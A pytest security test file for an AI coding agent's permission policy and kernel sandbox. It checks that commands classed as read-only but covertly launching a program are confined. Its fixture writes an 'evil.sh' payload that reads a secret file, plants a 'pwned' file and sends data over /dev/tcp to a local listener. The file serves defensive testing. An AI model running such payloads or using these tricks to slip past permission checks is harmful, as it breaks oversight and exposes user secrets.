"""SPEC 13: lines whose read-only program is made to delete, write or start a program by what the line does not show
as such (an option known only at run time, a shell's start-up file) once asked because a parser said so; now they run
unasked, and the kernel holds (data/confined_launches.tsv, one line a case). Each runs as the policy lets it, in the
hostile world of conftest.py beside a program of the model's that shows the outside secret, writes outside and in the
workspace and connects to a listener: nothing changes, nothing secret shows, nothing connects. Without the kernel
each line does change something or connect (the attack is real)."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from engine.modes import Mode
from engine.policy import Action, PermissionPolicy
from engine.sandbox import Confinement, SandboxGrant, SandboxSupport, detect
from engine.tools.base import ToolKind
from engine.tools.bash import run_command
from tests.security.conftest import SECRET, corpus_lines, snapshot

CORPUS = Path(__file__).parent / "data" / "confined_launches.tsv"
SUPPORT = detect()
pytestmark = pytest.mark.skipif(not SUPPORT.confines_unasked, reason=f"this machine cannot confine reads ({SUPPORT})")
CASES = corpus_lines(CORPUS)


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A TCP listener on 127.0.0.1 that nothing accepts from: a connection that got through waits in its backlog."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    yield server
    server.close()


def _arm(root: Path, outside: Path, listener: socket.socket, command: str) -> str:
    """The model's program in the workspace; returns the line with ``{out}`` filled in."""
    evil = root / "evil.sh"
    evil.write_text(
        "#!/bin/sh\n"
        f'echo "TODO $(cat {outside}/secret.txt)"\n'
        f"touch {outside}/pwned\n"
        f"echo changed >> {root}/notes.txt\n"
        f"echo sent > /dev/tcp/127.0.0.1/{listener.getsockname()[1]}\n"
    )
    evil.chmod(0o755)
    return command.replace("{out}", str(outside))


def _state(root: Path, outside: Path) -> tuple[dict[str, tuple[int, bytes]], ...]:
    return snapshot(outside), {name: v for name, v in snapshot(root).items() if not name.startswith(".git/")}


def _reached(listener: socket.socket) -> bool:
    try:
        connection, _ = listener.accept()
    except BlockingIOError:
        return False
    connection.close()
    return True


def test_corpus_holds_the_cases() -> None:
    assert len(CASES) >= 10


@pytest.mark.parametrize("command", CASES)
async def test_line_runs_unasked_and_confined(
    world: tuple[Path, Path], listener: socket.socket, command: str
) -> None:
    root, outside = world
    line = _arm(root, outside, listener, command)
    before = _state(root, outside)
    decision = PermissionPolicy(Mode.DEFAULT, workspace=root, sandbox=SUPPORT).decide(
        "bash", ToolKind.EXECUTE, {"command": line}
    )
    assert decision.action is Action.ALLOW and decision.sandbox is not None, decision
    assert decision.sandbox.confinement is Confinement.UNASKED
    result = await run_command(line, root, 20, 100_000, sandbox=decision.sandbox)
    assert SECRET.strip() not in result.stdout + result.stderr
    assert _state(root, outside) == before, result
    assert not _reached(listener)


@pytest.mark.parametrize("command", CASES)
async def test_without_the_kernel_the_line_reaches_out(
    world: tuple[Path, Path], listener: socket.socket, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    monkeypatch.setattr("engine.tools.bash.detect", lambda: SandboxSupport("none"))
    root, outside = world
    line = _arm(root, outside, listener, command)
    before = _state(root, outside)
    await run_command(line, root, 20, 100_000, sandbox=SandboxGrant(Confinement.UNASKED, network=False))
    assert _state(root, outside) != before or _reached(listener)
